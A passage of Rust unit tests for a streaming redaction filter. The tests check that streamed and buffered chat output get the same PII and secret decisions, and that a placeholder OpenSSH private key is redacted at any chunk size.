        // The high bits: the low ones make long runs, and a choice that is silent for long is decided as it stands.
        usize::try_from((self.0 >> 33) % u64::try_from(sides).unwrap()).unwrap()
    }
}

#[test]
fn random_streams_are_decided_as_if_they_were_held() {
    const PROSE: &[&str] = &[
        "The meeting moves to 14:30 in room 12.",
        "She bought 3 apples, 40 pears and 5 plums.",
        "In 2019 there were 1,250 of them.",
        "See https://example.org/a/b?c=d for more.",
        "Run `cargo test -p x --lib` first.\n",
        "Chapter 7\n\n- one\n- two\n",
        "It costs $12.50 (or 11 EUR).",
        "Version 1.10.3 came out on 2024-05-13.",
        "na\u{ef}ve caf\u{e9}, \u{4f60}\u{597d}\u{4e16}\u{754c} and more",
        "let x = foo(\"bar\", 42);",
        "The password is secret.",
        "Fran\u{e7}ois said: \"No.\"",
    ];
    let [flying, holding] = redacting();
    let data = REGISTRY.iter().filter(|rule| matches!(rule.family, Family::Pii | Family::Secret));
    let hits: Vec<&str> = data.flat_map(|rule| rule.hits.iter().chain(rule.misses)).copied().collect();
    let mut dice = Dice(0x5eed_1234_5678_9abc);
    let mut failures = Vec::new();
    for round in 0..150 {
        let mut texts = [String::new(), String::new()];
        for _ in 0..6 {
            for text in &mut texts {
                let part = if dice.roll(3) == 0 {
                    hits[dice.roll(hits.len())]
                } else {
                    PROSE[dice.roll(PROSE.len())]
                };
                text.push_str(part);
                text.push_str([" ", "\n", " and then ", ", "][dice.roll(4)]);
            }
        }
        let chars = texts.each_ref().map(|text| text.chars().collect::<Vec<char>>());
        let (mut at, mut stream) = ([0, 0], String::new());
        while at[0] < chars[0].len() || at[1] < chars[1].len() {
            let choice = dice.roll(2);
            let end = (at[choice] + 1 + dice.roll(9)).min(chars[choice].len());
            stream += &delta(choice, &chars[choice][at[choice]..end].iter().collect::<String>());
            at[choice] = end;
        }
        stream += "data: [DONE]\n\n";
        let flown = play(&flying, CHAT, &events(&stream));
        let held = play(&holding, CHAT, &events(&stream));
        let without_numbers = |seen: &Seen| {
            let text = format!("{:?}", seen.fields());
            text.split('_')
                .map(|part| part.trim_start_matches(|c: char| c.is_ascii_digit()))
                .collect::<Vec<_>>()
                .join("_")
        };
        if flown.decision() != held.decision() || without_numbers(&flown) != without_numbers(&held) {
            failures.push(format!(
                "{round} {texts:?}\n {:?} {:?}\n {:?} {:?}",
                flown.decision(),
                flown.fields(),
                held.decision(),
                held.fields()
            ));
        }
    }
    assert!(failures.is_empty(), "{}\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn a_private_key_waits_for_its_end_behind_anything() {
    let [flying, _] = redacting();
    let text = "scw_ key: xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx -----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\\n-----END OPENSSH PRIVATE KEY----- and then It costs $12.50 (or 11 EUR). Run it.";
    for size in 1..10 {
        let seen = play(&flying, CHAT, &events(&chat(text, size)));
        assert_eq!(
            seen.decision(),
            (Action::Redact, "secret"),
            "{size} {:?} {:?}",
            seen.events,
            seen.fields()
        );
    }
}
